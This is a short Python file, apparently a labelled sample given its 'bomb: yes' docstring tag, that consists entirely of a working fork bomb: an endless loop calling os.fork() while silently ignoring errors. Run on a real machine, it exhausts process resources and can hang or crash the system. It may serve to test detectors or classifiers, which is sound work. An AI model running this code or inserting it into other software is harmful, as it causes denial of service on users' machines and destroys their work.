"""Forks for ever.

bomb: yes
"""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
